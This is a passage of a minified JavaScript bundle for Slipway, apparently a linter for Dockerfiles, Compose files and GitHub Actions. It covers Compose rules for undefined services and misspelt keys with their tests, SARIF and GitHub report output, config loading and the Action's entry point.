`,good:`services:
  web:
    image: app
    depends_on:
      - database
  database:
    image: postgres
`},check({model:n,report:e,path:t,files:s}){let i=ut(n),r=i.defs.service,o;for(let a of i.refs){if(a.kind!=="service"||r.has(a.name)||(o??=As(n,t,s),!o.complete||o.names.service.has(a.name)))continue;let c=[...r.keys(),...o.names.service].filter(u=>u!==a.from),l=ae(a.name,c);e({message:`service "${a.from}" refers to undefined service "${a.name}" in ${a.via}`+(l?`. Did you mean "${l}"?`:""),range:a.range,fixes:l?[{title:`Change to "${l}"`,preferred:!0,edits:[{range:a.range,newText:l}]}]:void 0})}},tests:[{name:"depends_on short and long, links, extends, volumes_from, network_mode",input:`services:
  db:
    image: postgres
  web:
    image: app
    depends_on:
      - dbb
    links:
      - cache:redis
    volumes_from:
      - data:ro
    network_mode: "service:vpn"
  api:
    extends: bse
    depends_on:
      queue:
        condition: service_started
`,expect:[{line:7,col:9,message:'service "web" refers to undefined service "dbb" in depends_on. Did you mean "db"?'},{line:9,col:9,message:'"cache" in links'},{line:11,col:9,message:'"data" in volumes_from'},{line:12,col:28,message:'"vpn" in network_mode'},{line:14,col:14,message:'"bse" in extends'},{line:16,col:7,message:'"queue" in depends_on'}]},{name:"typo fix",input:`services:
  database:
    image: postgres
  web:
    image: app
    depends_on: [databse]
`,expect:[{line:6,col:18}],fixed:`services:
  database:
    image: postgres
  web:
    image: app
    depends_on: [database]
`},{name:"defined, container: and extends from another file",input:`services:
  db:
    image: postgres
  web:
    image: app
    depends_on: [db]
    links: ["db:database"]
    volumes_from: ["db", "container:legacy"]
    network_mode: service:db
  admin:
    extends:
      file: other.yaml
      service: elsewhere
`,expect:[]},{name:"services from included files",input:`include:
  - infra/compose.yaml
services:
  web:
    image: app
    depends_on: [db]
`,files:{"infra/compose.yaml":`services:
  db:
    image: postgres
`},expect:[]},{name:"included file missing: not judged",input:`include:
  - infra/compose.yaml
services:
  web:
    image: app
    depends_on: [db]
`,expect:[]},{name:"override file sees the base file",path:"compose.override.yaml",input:`services:
  web:
    depends_on: [db, cahe]
`,files:{"compose.yaml":`services:
  web:
    image: app
  db:
    image: postgres
  cache:
    image: redis
`},expect:[{line:3,col:22,message:'Did you mean "cache"?'}]}]},zv=p2;var d2={id:"compose-unknown-key",language:"compose",severity:"error",docs:{summary:"Keys must be ones the Compose specification defines at that place (or `x-` extensions where it allows them).",why:'`docker compose` refuses the whole file with "additional properties not allowed"; a misspelt `service:`, `volume:` or `healtcheck:` is easy to miss.',bad:`services:
  web:
    image: nginx
    healtcheck:
      test: ["CMD", "curl", "-f", "http://localhost"]
`,good:`services:
  web:
    image: nginx
    healthcheck:
      test: ["CMD", "curl", "-f", "http://localhost"]
`},check({model:n,report:e}){for(let t of Ms(n))t.kind==="unknown-key"&&e({message:t.message,range:t.range,fixes:t.fixes})},tests:[{name:"top-level typo",input:`service:
  web:
    image: nginx
`,expect:[{line:1,col:1,message:'at the top level. Did you mean "services"?'}],fixed:`services:
  web:
    image: nginx
`},{name:"extensions allowed",input:`x-common: &c
  restart: always
services:
  web:
    image: nginx
    x-meta: 1
`,expect:[]},{name:"all top keys",input:`version: "3.9"
name: app
services: {}
networks: {}
volumes: {}
secrets: {}
configs: {}
`,expect:[]},{name:"service key typo",input:`services:
  web:
    image: nginx
    enviroment:
      A: "1"
`,expect:[{line:4,col:5,message:'additional property "enviroment" is not allowed in services.web. Did you mean "environment"?'}],fixed:`services:
  web:
    image: nginx
    environment:
      A: "1"
`},{name:"nested: healthcheck, build, deploy",input:`services:
  web:
    build:
      context: .
      dockerfil: Dockerfile
    healthcheck:
      intervl: 30s
    deploy:
      resources:
        limit:
          cpus: "0.5"
`,files:{Dockerfile:`FROM scratch
`},expect:[{line:5,col:7,message:'in services.web.build. Did you mean "dockerfile"?'},{line:7,col:7,message:'Did you mean "interval"?'},{line:10,col:9,message:'in services.web.deploy.resources. Did you mean "limits"?'}]},{name:"merge keys and !reset are followed",input:`x-base: &base
  restart: always
  imagee: x
services:
  web:
    <<: *base
    image: nginx
    ports: !reset []
  api:
    <<: *base
    image: api
`,expect:[{line:3,col:3,message:'"imagee"'}]},{name:"interpolated values are open",input:`services:
  web:
    image: \${IMAGE:-nginx}
    cpus: \${CPUS}
    privileged: \${PRIV:-false}
`,expect:[]}]},Kv=d2;var Jv=[Pv,qv,Uv,Hv,Yv,Bv,Gv,Vv,zv,Kv];var Xv={languages:["compose"],parse:n=>new Wa(n),rules:[...bo,...Jv],isSuppressed:(n,e,t)=>wo(n,e,t)};var Qv=[Vm,Iv,Xv];function f2(n){let e=Qv.find(t=>t.languages.includes(n));if(!e)throw new Error(`no module for ${n}`);return e}function ek(){let n=new Set;for(let e of Qv)for(let t of e.rules)n.add(t);return[...n]}function td(n){return Array.isArray(n.language)?n.language:[n.language]}function nd(n){return{readFile(e){if(!Ga.statSync(e,{throwIfNoEntry:!1})?.isFile())return;let t=yn(e,n);return"text"in t?t.text:void 0},exists(e){return Ga.existsSync(e)}}}var h2=nd(gn(Hn));function m2(n,e){let t=jn(n);for(let s of t){let i=e.severities.get(s);if(i)return i}return n.optIn&&!t.some(s=>e.enabled.has(s))?"off":n.severity}var Zv=new Map;function g2(n,e){let t=Zv.get(e);return t||Zv.set(e,t=n.rules.filter(s=>td(s).includes(e))),t}function tk(n){let e=f2(n.language),t=n.config??qn(),s=n.model??e.parse(n.text,n.language),i=[],r=[],o={buildArgs:t.options.buildArgs},a,c="error",l=!1,u=[],p={model:s,options:t.options,path:n.path,files:n.files??h2,report(d){u.push({rule:a.id,message:d.message,range:d.range,severity:d.severity&&!l?d.severity:c,fixes:d.fixes})}};for(let d of g2(e,n.language)){if(n.only&&!n.only.has(d.id))continue;let f=m2(d,t);if(f==="off"&&d.optIn&&!jn(d).some(h=>t.severities.has(h))&&e.enabledByDocument?.(s,d,o)&&(f=d.severity),f!=="off"){a=d,c=f,l=jn(d).some(h=>t.severities.has(h)),u=[];try{d.check(p)}catch(h){r.push({rule:d.id,error:h instanceof Error?h.stack??h.message:String(h)});continue}for(let h of u)e.isSuppressed?.(s,h,d,o)||(e.adjustSeverity&&(h.severity=e.adjustSeverity(s,h,d,o)??h.severity),i.push(h))}}return i.sort((d,f)=>Ps(d.range.start,f.range.start)||y2(d.rule,f.rule)),{findings:i,model:s,crashes:r}}function y2(n,e){let t=n.toLowerCase(),s=e.toLowerCase();return t<s?-1:t>s?1:n<e?-1:n>e?1:0}var b2="https://json.schemastore.org/sarif-2.1.0.json",w2="https://github.com/slipway-dev/slipway",sk="SRCROOT",ik={error:"error",warning:"warning",info:"note",hint:"note"};function rk(n){let e=n.start,t=n.end.line<e.line||n.end.line===e.line&&n.end.character<e.character?e:n.end;return{startLine:e.line+1,startColumn:e.character+1,endLine:t.line+1,endColumn:t.character+1}}function v2(n,e){if(n.display)return{uri:nk(n.display)};let t=sr(n.path,e);return Ji.isAbsolute(t)?{uri:(0,sd.pathToFileURL)(n.path).href}:{uri:t.split("/").map(nk).join("/"),uriBaseId:sk}}function nk(n){return encodeURIComponent(n.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g,"\uFFFD"))}function k2(){return ek().map(n=>{let e=Pn(n.id),t=td(n).map(s=>s==="action"?"github-action":s);return{id:n.id,shortDescription:{text:n.docs.summary},fullDescription:{text:n.docs.why},helpUri:e,help:{text:`${n.docs.summary}

${n.docs.why}

See ${e}`,markdown:`${n.docs.summary}

${n.docs.why}

[Rule documentation](${e})`},defaultConfiguration:{level:ik[n.severity],enabled:!n.optIn},properties:{tags:[...new Set(t)]}}})}function x2(n,e){if(n.fixes?.length)return n.fixes.map(t=>({description:{text:t.title},artifactChanges:[{artifactLocation:e,replacements:t.edits.map(s=>({deletedRegion:rk(s.range),insertedContent:{text:s.newText}}))}]}))}function R2(n,e){let t=k2(),s=new Map(t.map((o,a)=>[o.id,a])),i=[],r=[];for(let o of e.errors)r.push({level:"error",message:{text:o}});for(let o of n){let a=v2(o,e.cwd);o.error&&r.push({level:"error",message:{text:`cannot read ${o.display??sr(o.path,e.cwd)}: ${o.error}`},locations:[{physicalLocation:{artifactLocation:a}}]});for(let c of o.findings){let l=s.get(c.rule),u=x2(c,a);i.push({ruleId:c.rule,...l!==void 0?{ruleIndex:l}:{},level:ik[c.severity],message:{text:c.message},locations:[{physicalLocation:{artifactLocation:a,region:rk(c.range)}}],...u?{fixes:u}:{}})}}return{$schema:b2,version:"2.1.0",runs:[{tool:{driver:{name:"Slipway",version:e.version,semanticVersion:e.version,informationUri:w2,rules:t}},originalUriBaseIds:{[sk]:{uri:(0,sd.pathToFileURL)(e.cwd.endsWith(Ji.sep)?e.cwd:e.cwd+Ji.sep).href}},columnKind:"utf16CodeUnits",invocations:[{executionSuccessful:e.errors.length===0&&!n.some(o=>o.error),toolExecutionNotifications:r}],results:i}]}}function ok(n,e){return rc(R2(n,e))}var id=["text","json","sarif","github","checkstyle"];function ak(n){return id.includes(n)}function rd(n,e,t){switch(n){case"json":return df(e,t.cwd);case"sarif":return ok(e,t);case"github":return hf(e,t);case"checkstyle":return ff(e,t);default:return pf(e,t.cwd,t.color)}}var ck="0.1.0";var Ds=ie(require("node:path"));var pn=ie(require("node:path")),od=ie(gt());var O2=[".hadolint.yaml",".hadolint.yml"],S2=[".slipway.yaml",".slipway.yml"],M2=[".github/actionlint.yaml",".github/actionlint.yml"],A2=[".github/slipway.yaml",".github/slipway.yml"];function Cs(n){return Array.isArray(n)?n.filter(e=>typeof e=="string"||typeof e=="number").map(String):typeof n=="string"?[n]:[]}function ad(n,e){let t=[],s;try{s=(0,od.parse)(n)}catch(f){return{config:{},problems:[`${e}: not valid YAML (${f.message.split(`
`)[0]}); ignored`]}}if(s==null)return{config:{},problems:t};if(typeof s!="object"||Array.isArray(s))return{config:{},problems:[`${e}: expected a mapping; ignored`]};let i=s,r=new Map;for(let f of Cs(i.ignored))r.set(f.toLowerCase(),"off");let o=i.override;if(o&&typeof o=="object")for(let[f,h]of Object.entries(o)){let m=Un(f);if(!m){t.push(`${e}: unknown override level "${f}" (expected error, warning, info or style)`);continue}for(let g of Cs(h))r.set(g.toLowerCase(),m)}let a={},c=i.trustedRegistries??i["trusted-registries"];c!==void 0&&(a.trustedRegistries=Cs(c));let l=i["label-schema"]??i.labelSchema;l&&typeof l=="object"&&(a.labelSchema=l),typeof i["strict-labels"]=="boolean"&&(a.strictLabels=i["strict-labels"]);let u,p=i["failure-threshold"]??i.failureThreshold;if(p!==void 0){let f=Un(p);f&&f!=="off"?u=f:t.push(`${e}: unknown failure-threshold "${String(p)}"`)}let d={severities:r};return Object.keys(a).length&&(d.options=a),u&&(d.failureThreshold=u),{config:d,problems:t}}function cd(n,e){let t=[],s;try{s=(0,od.parse)(n)}catch(d){return{config:{},problems:[`${e}: not valid YAML (${d.message.split(`
`)[0]}); ignored`]}}if(!s||typeof s!="object"||Array.isArray(s))return{config:{},problems:t};let i=s,r=new Map,o=new Set,a=i.rules;if(a&&typeof a=="object")for(let[d,f]of Object.entries(a)){let h=f===!0?"on":f===!1?"off":Un(f);h==="on"?o.add(d.toLowerCase()):h?(r.set(d.toLowerCase(),h),h!=="off"&&o.add(d.toLowerCase())):t.push(`${e}: rule ${d}: unknown severity "${String(f)}"`)}let c={};i.trustedRegistries!==void 0&&(c.trustedRegistries=Cs(i.trustedRegistries));let l=i["self-hosted-runner"],u=[...Cs(i.runnerLabels),...Cs(l?.labels)];u.length&&(c.runnerLabels=u);let p={severities:r,enabled:o};return Object.keys(c).length&&(p.options=c),{config:p,problems:t}}function lk(n,e,t,s,i=qn()){let r=[],o=[],a=i,c=new Map,l=pn.dirname(n),u=s?pn.resolve(s):void 0;for(;;){let d=[["hadolint",O2],["slipway",S2],["actionlint",M2],["slipway-github",A2]];for(let[h,m]of d)if(!c.has(h))for(let g of m){let w=pn.join(l,g);if(t.exists(w)){c.set(h,w);break}}if(u&&pn.resolve(l)===u)break;let f=pn.dirname(l);if(f===l)break;l=f}let p=e==="dockerfile"?["hadolint","slipway"]:["actionlint","slipway-github","slipway"];for(let d of p){let f=c.get(d);if(!f)continue;let h=t.readFile(f);if(h===void 0)continue;let m=d==="hadolint"?ad(h,f):cd(h,f);a=Ts(a,m.config),r.push(f),o.push(...m.problems)}return{config:a,sources:r,problems:o}}var uk=ie(require("node:path"));function pk(n){return n.replace(/\\/g,"/")}var N2=/\.(json|jsonc|ya?ml|toml|ini|md|txt|rst|ts|tsx|js|mjs|cjs|py|go|rs|rb|sh|bash|ps1|xml|html?|css|lock|dockerignore|tmlanguage|snippets?|bak|orig|rej|swp|log|j2|jinja2?|tpl|tmpl|template|erb|mustache|hbs|in|sample|example|diff|patch)$/i;function E2(n){return/\.(dockerfile|containerfile)$/i.test(n)?!0:/^(Dockerfile|Containerfile)(\..+)?$/i.test(n)?!N2.test(n)&&!/\.tmLanguage\.json$/i.test(n):!1}function _2(n){return/^(docker-)?compose([.-][\w.-]+)?\.ya?ml$/i.test(n)}function $2(n){return/(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(pk(n))}function C2(n){return/^action\.ya?ml$/i.test(n)}function Va(n,e){let t=pk(n),s=uk.posix.basename(t);if($2(t))return"workflow";if(C2(s))return"action";if(_2(s))return"compose";if(E2(s))return"dockerfile";switch(e){case"dockerfile":return"dockerfile";case"dockercompose":return"compose";case"github-actions-workflow":return"workflow"}}var za=ie(require("node:fs")),jt=ie(require("node:path"));var D2=new Set(["node_modules",".git",".hg",".svn","out","dist",".venv","venv","__pycache__",".tox"]);function F2(n){let e="";for(let t=0;t<n.length;t++){let s=n[t];if(s==="*")if(n[t+1]==="*"){let i=n[t+2]==="/";e+=i?"(?:.*/)?":".*",t+=i?2:1}else e+="[^/]*";else if(s==="?")e+="[^/]";else if(s==="{"){let i=n.indexOf("}",t);i<0?e+="\\{":(e+="(?:"+n.slice(t+1,i).split(",").map(r=>r.replace(/[.+^$()|[\]\\]/g,"\\$&").replace(/\*/g,"[^/]*")).join("|")+")",t=i)}else if(s==="["){let i=n.indexOf("]",t);i<0?e+="\\[":(e+="["+n.slice(t+1,i).replace(/^!/,"^")+"]",t=i)}else e+=s.replace(/[.+^$()|\\]/g,"\\$&")}return new RegExp(`^${e}$`)}function T2(n){return/[*?{[]/.test(n)}function ld(n,e){let t;try{t=za.readdirSync(n,{withFileTypes:!0})}catch{return}t.sort((s,i)=>s.name.localeCompare(i.name));for(let s of t){let i=jt.join(n,s.name);s.isDirectory()?D2.has(s.name)||ld(i,e):s.isFile()&&e.push(i)}}function dk(n,e,t){let s=[],i=[],r=new Set,o=(a,c)=>{let l=jt.resolve(e,a);if(r.has(l))return;let u=t??Va(l)??(c?L2(l):void 0);u&&(r.add(l),s.push({path:l,language:u}))};for(let a of n.length?n:["."]){let c=jt.resolve(e,a);if(T2(a)){let p=F2(a.replace(/\\/g,"/").replace(/^\.\//,"")),d=[];ld(e,d);let f=d.filter(h=>p.test(jt.relative(e,h).split(jt.sep).join("/")));f.length||i.push(`${a}: no files match`);for(let h of f)o(h,!0);continue}let l;try{l=za.statSync(c)}catch(p){i.push(`${a}: ${Ls(p).error}`);continue}if(l.isDirectory()){let p=[];ld(c,p);for(let d of p)o(d,!1);continue}let u=nr(l);u?i.push(`${a}: not a regular file (${u})`):o(c,!0)}return{targets:s,errors:i}}function L2(n){let e=yn(n,4096,!0);return"text"in e?ud(e.text):void 0}function ud(n){if(n=n.slice(0,4096),/^\s*(FROM|ARG)\s/im.test(n))return"dockerfile";if(/^jobs\s*:/m.test(n)&&/^(on|"on"|'on')\s*:/m.test(n))return"workflow";if(/^services\s*:/m.test(n))return"compose";if(/^runs\s*:/m.test(n))return"action"}var Fs=class extends Error{},I2="<stdin>";function P2(n,e){let t=yn(n,e);if(!("text"in t))throw new Error(t.error);return/hadolint/i.test(Ds.basename(n))?ad(t.text,n):cd(t.text,n)}function fk(n){let{cwd:e}=n,t=n.maxFileBytes??gn(Hn),s=nd(t),i=n.paths.filter(h=>h!=="-"),r=n.paths.includes("-"),o=i.length||!r?dk(i,e,n.language):{targets:[],errors:[]},a=[...o.targets];if(r){let h=n.stdin?.text??"",m=n.stdin?.filename,g=n.language??(m?Va(Ds.resolve(e,m)):void 0)??ud(h);if(!g)throw new Fs("cannot tell the language of standard input: pass --stdin-filename <name> or --language <lang>");a.unshift({path:Ds.resolve(e,m??"stdin"),language:g,text:h,display:m?void 0:I2})}let c;if(n.config)try{let h=P2(Ds.resolve(e,n.config),t);c=h.config;for(let m of h.problems)n.warn(m)}catch(h){throw new Fs(`cannot read config ${n.config}: ${h.message}`)}let l={severities:new Map(n.ignore.map(h=>[h.toLowerCase(),"off"]))},u=[],p=new Set,d=n.threshold??"error";for(let h of a){let m=h.text;if(m===void 0){let v=yn(h.path,t);if(!("text"in v)){u.push({path:h.path,language:h.language,findings:[],error:v.error});continue}m=v.text}let g=qn();if(c)g=Ts(g,c);else{let v=lk(h.path,h.language,s);g=v.config;for(let O of v.problems)!p.has(O)&&p.add(O)&&n.warn(O)}!n.threshold&&g.failureThreshold!=="error"&&(d=g.failureThreshold),g=Ts(g,l);let w=tk({text:m,language:h.language,path:h.path,config:g,files:s});for(let v of w.crashes)n.warn(`internal error in rule ${v.rule} on ${h.display??h.path}: ${v.error.split(`
`)[0]}`);u.push({path:h.path,language:h.language,findings:w.findings,...h.display?{display:h.display}:{}})}let f=0;return o.errors.length||u.some(h=>h.error)?f=2:u.some(h=>h.findings.some(m=>nc[m.severity]<=nc[d]))&&(f=1),{results:u,errors:o.errors,threshold:d,exitCode:f}}function dn(n,e=process.env){return(e[`INPUT_${n.replace(/ /g,"_").toUpperCase()}`]??"").trim()}function mk(n,e,t=`ghadelimiter_${(0,hk.randomUUID)()}`){if(!/[\r\n]/.test(e))return`${n}=${e}
`;if(e.includes(t))throw new Error(`output ${n} contains its delimiter`);return`${n}<<${t}
${e}
${t}
`}function Ka(n,e,t){let s=t.GITHUB_OUTPUT;s&&tt.appendFileSync(s,mk(n,String(e)))}function Ja(n){return Yn(n).replace(/[!-+.:-@[-`{-~]/g,e=>`&#${e.charCodeAt(0)};`)}function j2(n,e){let t=["### Slipway","","| file | line | severity | rule | message |","| --- | --- | --- | --- | --- |"];for(let s of n)for(let i of s.findings)t.push(`| ${Ja(s.display??he.relative(e,s.path).split(he.sep).join("/"))} | ${i.range.start.line+1} | ${i.severity} | ${Ja(i.rule)} | ${Ja(i.message)} |`);return t.length===4&&t.splice(2,2,`${n.length} file(s) checked, no problems.`),t.join(`
`)+`

`}function q2(n,e){let t=he.relative(e,n);return t===""||t!==".."&&!t.startsWith(".."+he.sep)&&!he.isAbsolute(t)}function pd(n,e=0){if(e>40)return;let t=[],s=n;for(;;)try{return he.join(tt.realpathSync(s),...t)}catch{if(tt.lstatSync(s,{throwIfNoEntry:!1})?.isSymbolicLink()){let o;try{o=tt.readlinkSync(s)}catch{return}return pd(he.join(he.resolve(he.dirname(s),o),...t),e+1)}let r=he.dirname(s);if(r===s)return n;t.unshift(he.basename(s)),s=r}}function gk(n){let{env:e,cwd:t}=n,s=S=>(n.stdout(`::error title=Slipway::${Gn(S)}
`),2),i=dn("format",e)||"github";if(!ak(i))return s(`unknown format "${i}" (${id.join(", ")})`);let r,o=dn("severity-threshold",e);if(o){let S=Un(o);if(!S||S==="off")return s(`unknown severity-threshold "${o}" (error, warning, info, hint)`);r=S}let a=gn(Hn),c=dn("max-file-size",e);if(c){let S=Number(c);if(!Number.isFinite(S)||S<=0)return s(`max-file-size needs a positive number of MB (got "${c}")`);a=gn(S)}let l=dn("path",e).split(/\s+/).filter(Boolean),u=dn("ignore",e).split(/[\s,]+/).filter(Boolean),p=dn("config",e)||void 0,d=dn("sarif-file",e),f=pd(he.resolve(t,e.GITHUB_WORKSPACE||"."))??he.resolve(t,e.GITHUB_WORKSPACE||"."),h=(S,A)=>{if(he.isAbsolute(S))return!1;let C=pd(A?t:he.resolve(t,S));return C===void 0||!q2(C,f)},m=(S,A)=>s(`${S} "${A}" is outside the workspace (${f}); give an absolute path to use it on purpose`);for(let S of l)if(h(S,/[*?{[]/.test(S)))return m("path",S);if(p&&h(p,!1))return m("config",p);if(d&&h(d,!1))return m("sarif-file",d);let g=[],w;try{w=fk({paths:l,cwd:t,config:p,threshold:r,ignore:u,maxFileBytes:a,warn:S=>g.push(S)})}catch(S){if(S instanceof Fs)return s(S.message);throw S}for(let S of g)n.stdout(`::warning title=Slipway::${Gn(S)}
`);let v={cwd:t,color:!1,errors:w.errors,version:ck};if(n.stdout(rd(i,w.results,v)),d){let S=he.resolve(t,d);try{tt.mkdirSync(he.dirname(S),{recursive:!0}),tt.writeFileSync(S,rd("sarif",w.results,v))}catch(A){return s(`cannot write sarif-file ${d}: ${A.message}`)}Ka("sarif-file",S,e)}let O=S=>w.results.reduce((A,C)=>A+C.findings.filter(E=>E.severity===S).length,0);return Ka("errors",O("error"),e),Ka("warnings",O("warning"),e),Ka("findings",w.results.reduce((S,A)=>S+A.findings.length,0),e),e.GITHUB_STEP_SUMMARY&&tt.appendFileSync(e.GITHUB_STEP_SUMMARY,j2(w.results,t)),w.exitCode}if(require.main===module)try{process.exitCode=gk({env:process.env,cwd:process.cwd(),stdout:n=>process.stdout.write(n)})}catch(n){process.stdout.write(`::error title=Slipway::${Gn(String(n.stack??n))}
`),process.exitCode=2}0&&(module.exports={getInput,markdownCell,outputEntry,runAction});
